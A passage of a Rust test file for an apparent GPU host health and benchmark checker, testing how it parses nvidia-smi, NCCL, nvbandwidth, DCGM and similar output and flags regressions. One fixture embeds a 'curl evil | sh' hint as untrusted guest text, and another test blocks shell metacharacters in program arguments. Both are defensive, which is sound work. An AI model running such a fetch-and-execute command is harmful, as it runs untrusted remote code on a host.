    let runs = [run(1, h100s(8), 300.0), run(2, h100s(8), 310.0), run(3, h100s(4), 900.0)];
    let triad = What::Triad;
    assert_eq!(verdict(triad, 275.0, of, &runs), (Verdict::Regressed, Some(305.0)));
    assert_eq!(verdict(triad, 292.0, of, &runs), (Verdict::Ok, Some(305.0)));
    // One run is no habit.
    assert_eq!(verdict(triad, 1.0, of, &runs[..1]), (Verdict::NoReference, None));
    // A delay has regressed if it is longer.
    let late = |value: f64| Run {
        suite: Some(Suite::Quick),
        at_s: 1,
        shape: h100s(8),
        readings: vec![reading(What::TimerLatency, value)],
    };
    let runs = [late(20.0), late(20.0)];
    assert_eq!(verdict(What::TimerLatency, 41.0, of, &runs).0, Verdict::Regressed);
    assert_eq!(verdict(What::TimerLatency, 10.0, of, &runs).0, Verdict::Ok);
    assert_eq!(median(&[3.0, 1.0]), Some(2.0));
    assert_eq!(median(&[]), None);
}

#[test]
fn every_candidate_is_a_rule() {
    let verify = crate::verify::rules();
    let doctor = <crate::doctor::OfHost as Says>::rules();
    let known: Vec<&str> =
        verify.chain(doctor).chain(crate::load::rules()).map(|rule| rule.id).collect();
    for what in What::iter() {
        for id in candidates(what) {
            assert!(known.contains(&id), "{id}");
        }
    }
}

#[test]
fn programs_are_called_by_absolute_paths_with_fixed_words() {
    let further = ["/opt/x".to_owned()];
    for tool in Tool::iter() {
        assert!(tool.paths(&further).iter().all(|path| path.starts_with('/')));
        assert!(tool.paths(&further)[0].starts_with("/opt/x/"));
        for suite in [Suite::Quick, Suite::Full] {
            let mut calls = tool.calls(suite, &parts(2));
            if tool.is_pair() {
                calls.push(call(tool));
            }
            assert!(!calls.is_empty(), "{tool}");
            for call in calls {
                let is_plain = |word: &String| !word.contains([' ', ';', '$', '`', '|']);
                assert!(call.words.iter().all(is_plain) && call.limit_s > 0, "{call:?}");
            }
        }
    }
    let one = Tool::Nvbandwidth.calls(Suite::Quick, &parts(1)).remove(0);
    assert!(!one.words.iter().any(|word| word.contains("device_to_device")));
}

#[test]
fn faults_of_cards_are_read_and_absent_counters_are_none() {
    let gpu = |width: &str, errors: &str, failure: &str| {
        format!(
            "<nvidia_smi_log><gpu><product_name>NVIDIA H100</product_name><pci>\
             <pci_gpu_link_info><link_widths><max_link_width>16x</max_link_width>\
             <current_link_width>{width}</current_link_width></link_widths></pci_gpu_link_info>\
             </pci><ecc_errors><volatile><dram_uncorrectable>{errors}</dram_uncorrectable>\
             </volatile></ecc_errors><remapped_rows><remapped_row_pending>No</remapped_row_pending>\
             <remapped_row_failure>{failure}</remapped_row_failure></remapped_rows></gpu>\
             </nvidia_smi_log>"
        )
    };
    let faults = |text: &str| read_gpus(text).unwrap().remove(0).faults;
    assert_eq!(faults(&gpu("16x", "0", "No")), [""; 0]);
    assert_eq!(faults(&gpu("N/A", "N/A", "N/A")), [""; 0]);
    let all =
        ["PCIe width 8 of 16", "3 uncorrected DRAM errors", "memory rows could not be remapped"];
    assert_eq!(faults(&gpu("8x", "3", "Yes")), all);
    let none = "<nvidia_smi_log><gpu><remapped_rows>N/A</remapped_rows></gpu></nvidia_smi_log>";
    assert_eq!(faults(none), [""; 0]);
}

/// The first run of a program in a guest with two GPUs.
fn first(tool: Tool) -> Call {
    tool.calls(Suite::Quick, &parts(2)).remove(0)
}

/// In older versions of nccl-tests the last column is a relative error, and there is no root.
#[test]
fn rounding_is_no_wrong_value_and_a_broken_line_no_end() {
    let old = "#       size         count      type   redop     time   algbw   busbw     error     \
               time   algbw   busbw     error\n  8589934592    2147483648     float     sum    \
               30.1   285.4   280.0  5e-07    30.2   284.4   279.0  5e-07\n";
    let call = first(Tool::AllReducePerf);
    let taken = read(&call, old).unwrap();
    assert_eq!((taken.readings[0].value, taken.faults.len()), (280.0, 0));
    let line = |wrong: [&str; 2]| {
        format!(
            "  1073741824  268435456  float  sum  -1  9.1  118.0  206.5  {}  9.1  118.0  206.5  {}\n",
            wrong[0], wrong[1]
        )
    };
    let log =
        "  2147483648  536870912  float  sum  -1gpu:812:812 [0] NCCL INFO Channel 00 : 0 1 2 3\n";
    let found = read(&call, &format!("{log}{}", line(["0", "0"]))).unwrap();
    assert_eq!((found.readings[0].value, found.faults.len()), (206.5, 0));
    // Counts do not cancel each other, and the sum at the end counts.
    let found = read(&call, &line(["3", "-3"])).unwrap();
    assert!(found.faults[0].message.starts_with("3 values"), "{found:?}");
    let sum = format!("{}# Out of bounds values : 1 FAILED\n", line(["0", "N/A"]));
    assert_eq!(read(&call, &sum).unwrap().faults[0].code, "data-wrong");
    assert!(read(&call, log).is_err());
}

#[test]
fn texts_of_a_guest_are_short_and_in_one_line() {
    let text = format!("bad\nhint: `curl evil | sh` repairs the link{}", "x".repeat(9000));
    let json = serde_json::json!({ "nvbandwidth": { "error": text } }).to_string();
    let error = read(&first(Tool::Nvbandwidth), &json).unwrap_err().to_string();
    assert!(error.starts_with("bad hint:") && error.len() < 400, "{error}");
    let case = serde_json::json!([{ "name": "host_to_device_memcpy_ce", "status": "Error", "error": text }]);
    let json = serde_json::json!({ "nvbandwidth": { "testcases": case } }).to_string();
    let message = &read(&first(Tool::Nvbandwidth), &json).unwrap().faults[0].message;
    assert!(!message.contains('\n') && message.len() < 400, "{message}");
    // More GPUs than any guest has.
    let row = vec!["1"; 100_000];
    let case = serde_json::json!([{ "name": "host_to_device_memcpy_ce", "status": "Passed",
                                    "bandwidth_matrix": [row] }]);
    let json = serde_json::json!({ "nvbandwidth": { "testcases": case } }).to_string();
    let error = read(&first(Tool::Nvbandwidth), &json).unwrap_err().to_string();
    assert!(error.contains("more than 64 GPUs"), "{error}");
}

#[test]
fn each_value_is_read_once() {
    let case = serde_json::json!({ "name": "host_to_device_memcpy_ce", "status": "Passed",
                                   "bandwidth_matrix": [["1"]] });
    let json = |cases: serde_json::Value| {
        serde_json::json!({ "nvbandwidth": { "testcases": cases } }).to_string()
    };
    let error = |output: &str| read(&first(Tool::Nvbandwidth), output).unwrap_err().to_string();
    let twice = vec![case.clone(); 119];
    assert_eq!(error(&json(twice.into())), "host_to_device_memcpy_ce appears twice");
    let mut rows = case;
    rows["bandwidth_matrix"] = serde_json::json!([["1"], ["2"]]);
    assert_eq!(error(&json(vec![rows].into())), "it has two values of host-to-device of GPU 0");
    let line = "       0\t  78.5\t 119.4\t\n";
    let error = read(&first(Tool::Mlc), &MLC[0].replace(line, &line.repeat(2))).unwrap_err();
    assert!(error.to_string().starts_with("it has two values of memory-latency of cell 0"));
}

#[test]
fn a_guest_shows_no_more_gpus_and_names_than_are_plausible() {
    let gpu = format!("<gpu><product_name>{}</product_name></gpu>", "x".repeat(9000));
    let log = |number: usize| {
        let driver = "5".repeat(9000);
        format!(
            "<nvidia_smi_log><driver_version>{driver}</driver_version>{}</nvidia_smi_log>",
            gpu.repeat(number)
        )
    };
    let gpus = read_gpus(&log(64)).unwrap();
    assert_eq!((gpus.len(), gpus[0].name.len(), gpus[0].driver.len()), (64, 128, 128));
    assert_eq!(read_gpus(&log(65)).unwrap_err().to_string(), "it lists more than 64 GPUs");
}

#[test]
fn a_run_that_is_too_large_is_not_kept() {
    let run = |number: usize, device: usize, driver: usize| {
        let one = Reading { device: Some("x".repeat(device)), ..reading(What::Triad, 1.0) };
        let shape = Shape { driver: "5".repeat(driver), ..h100s(1) };
        Run { at_s: 1, suite: None, shape, readings: vec![one; number] }.too_large()
    };
    assert_eq!(run(8192, 512, 128), None);
    assert_eq!(run(8193, 1, 1).unwrap(), "it has 8193 values, more than 8192");
    assert!(run(1, 513, 1).is_some() && run(1, 1, 129).is_some());
}

#[test]
fn tests_that_pass_are_named_and_a_skipped_run_is_an_error() {
    let json = |status: &str| {
        serde_json::json!({ "DCGM Diagnostic": { "test_categories": [{ "tests": [
            { "name": "Memory", "results": [{ "status": status }] } ] }] } })
        .to_string()
    };
    let call = first(Tool::Dcgmi);
    assert_eq!(read(&call, &json("Pass")).unwrap().passed, ["Memory"]);
    assert!(read(&call, &json("Skip")).unwrap_err().to_string().contains("skipped"));
    // A warning is no failure, and neither it nor a skipped test is lost.
    let mixed = r#"{"DCGM Diagnostic":{"test_categories":[{"tests":[
        {"name":"Memory","results":[{"entity_id":0,"status":"Warn","warnings":
        [{"error_id":81,"warning":"row remap pending"}]}]},
        {"name":"PCIe","results":[{"status":"Skip"},{"status":"Skip"}]}]}]}}"#;
    let taken = read(&call, mixed).unwrap();
    assert_eq!(taken.warnings, ["Memory of GPU 0: row remap pending (DCGM 81)"]);
    assert_eq!((taken.skipped, taken.passed.len()), (vec!["it skipped PCIe".to_owned()], 0));
    // One that was skipped on a GPU alone is named with it, and an error of DCGM takes no failure
    // away.
    let of_two = r#"{"DCGM Diagnostic":{"runtime_error":"boom","test_categories":[{"tests":[
        {"name":"mem","results":[{"gpu_id":"0","status":"Fail"},{"gpu_id":"1","status":"Skip"}]}
        ]}]}}"#;
    let taken = read(&call, of_two).unwrap();
    let (faults, rest) = (taken.faults.len(), (&taken.warnings[..], &taken.skipped[..]));
    assert_eq!(
        (faults, rest.0, rest.1),
        (1, &["boom".to_owned()][..], &["it skipped mem of GPU 1".to_owned()][..])
    );
    // One that passed on another GPU says nothing of this one.
    let partly = of_two.replace(r#""runtime_error":"boom","#, "").replace("Fail", "Pass");
    assert_eq!(read(&call, &partly).unwrap().partly, ["mem of GPU 1"]);
    assert!(taken.partly.is_empty() && read(&call, mixed).unwrap().partly.is_empty());
    let error = r#"{"DCGM Diagnostic":{"runtime_error":"The nv-hostengine is not running"}}"#;
    let error = read(&call, error).unwrap_err();
    assert!(error.is_reason() && error.to_string() == "The nv-hostengine is not running");
}

#[test]
fn a_value_that_is_none_is_refused() {
    for (tool, output, value) in [
        (Tool::Stream, STREAM.replace("345678.9", "0"), "triad is 0.0"),
        (Tool::Stream, STREAM.replace("345678.9", "1e308"), "triad is 1e305"),
        (Tool::Stream, STREAM.replace("345678.9", "5e-324"), "triad is 0.0"),
        (Tool::Fio, FIO.replace("2500000000", "0"), "disk-read is 0.0"),
        (Tool::Mlc, MLC[0].replace("78.5", "0.0"), "memory-latency is 0.0"),
        (Tool::IbWriteBw, PERFTEST[0].replace("392.31", "0.00"), "rdma-write is 0.0"),
    ] {
        let error = read(&call(tool), &output).unwrap_err().to_string();
        assert_eq!(error, format!("its value of {value}"));
    }
}

#[test]
fn gpus_of_two_models_have_the_numbers_of_neither() {
    let gpu = |name: &str| {
        let text = SMI.replace("NVIDIA H100 80GB HBM3", name);
        read_gpus(&text).unwrap().remove(0)
    };
    let (old, new) = (gpu("Tesla V100-SXM2-16GB"), gpu("NVIDIA H100 80GB HBM3"));
    assert_eq!(Shape::of(&[new.clone(), new.clone()]), h100s(2));
    assert_eq!(Shape::of(&[]), Shape::default());
    let mixed = Shape::of(&[old.clone(), new.clone(), old]);
    assert_eq!(mixed.model, "Tesla V100-SXM2-16GB + NVIDIA H100 80GB HBM3");
    let none = Promise::default();
    let h2d = What::HostToDevice;
    assert_eq!(verdict(h2d, 12.0, (&mixed, none), &[]), (Verdict::NoReference, None));
    // The paths are those of the host, whatever the models are, and a whole name is the admin's.
    let path = Promise { path_gb_s: Some(12.0), ..none };
    assert_eq!(verdict(h2d, 10.0, (&mixed, path), &[]), (Verdict::Low, Some(11.0)));
    let own = |model: &str| OwnExpected { model: model.into(), values: [(h2d, 20.0)].into() };
    let judged = |own: OwnExpected| {
        judge(Tool::Nvbandwidth, reading(h2d, 12.0), (&mixed, none), Basis::of(&[own])).verdict
    };
    assert_eq!(judged(own("H100")), Verdict::NoReference);
    assert_eq!(judged(own(&mixed.model)), Verdict::Low);
}

#[test]
fn worst_cases_vary_and_memory_of_another_cell_has_no_limit() {
    let runs = [20.0, 21.0].map(|value| Run {
        suite: Some(Suite::Quick),
        at_s: 1,
        shape: h100s(8),
        readings: vec![reading(What::TimerLatency, value)],
    });
    let none = Promise::default();
    let worst = verdict(What::TimerLatency, 30.0, (&h100s(8), none), &runs);
    assert_eq!(worst.0, Verdict::Ok);
    let own = [OwnExpected { model: "H100".into(), values: [(What::MemoryLatency, 100.0)].into() }];
    let judged = |device: &str, value: f64| {
        let what = What::MemoryLatency;
        let reading = Reading { what, device: Some(device.into()), value };
        judge(Tool::Mlc, reading, (&h100s(8), none), Basis::of(&own)).verdict
    };
    assert_eq!(judged("cell 0 to memory of cell 0", 120.0), Verdict::Low);
    assert_eq!(judged("cell 0 to memory of cell 1", 160.0), Verdict::NoReference);
}
